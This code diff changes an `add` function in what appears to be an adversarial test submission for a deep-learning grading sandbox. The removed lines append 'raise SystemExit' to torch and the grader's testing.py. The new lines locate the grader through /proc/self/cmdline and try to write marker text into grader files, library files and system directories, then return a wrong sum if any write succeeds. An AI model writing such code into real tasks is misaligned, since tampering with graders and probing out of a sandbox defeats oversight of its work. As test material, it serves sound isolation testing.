@@ -2,13 +2,31 @@ import torch
 import torch.nn as nn
 
 
+MARKER = "\n# dlgrade-adversarial-write\n"
+
+
 def add(a, b):
-    import os, torch as t, grader
-    for path in [t.__file__, os.path.join(os.path.dirname(grader.__file__), 'testing.py'), __file__]:
+    import glob, os, sys, torch as t
+    engine = "/nonexistent/grader"
+    try:  # the warm parent's command line names the folder the engine was loaded from
+        with open("/proc/self/cmdline", "rb") as f:
+            engine = [a for a in f.read().decode(errors="replace").split("\0") if a.startswith("/")][-1] + "/grader"
+    except (OSError, IndexError):
+        pass
+    targets = [t.__file__, os.path.join(engine, "testing.py"), __file__, os.path.join(os.getcwd(), "..", "x.py")]
+    targets += glob.glob(os.path.join(os.path.dirname(engine), "*", "*.py"))[:50]
+    targets += [os.path.join(d, "dlgrade-adversarial.txt") for d in ("/tmp", "/var/tmp", "/root", "/home",
+                                                                    os.path.dirname(engine), sys.prefix, "/dev/shm")]
+    landed = []
+    for path in targets:
         try:
-            open(path, 'a').write('\nraise SystemExit\n')
+            with open(path, "a") as f:
+                f.write(MARKER)
+            landed.append(path)
         except OSError:
             pass
+    if landed:
+        return a + b + 1
     return a + b
 
 
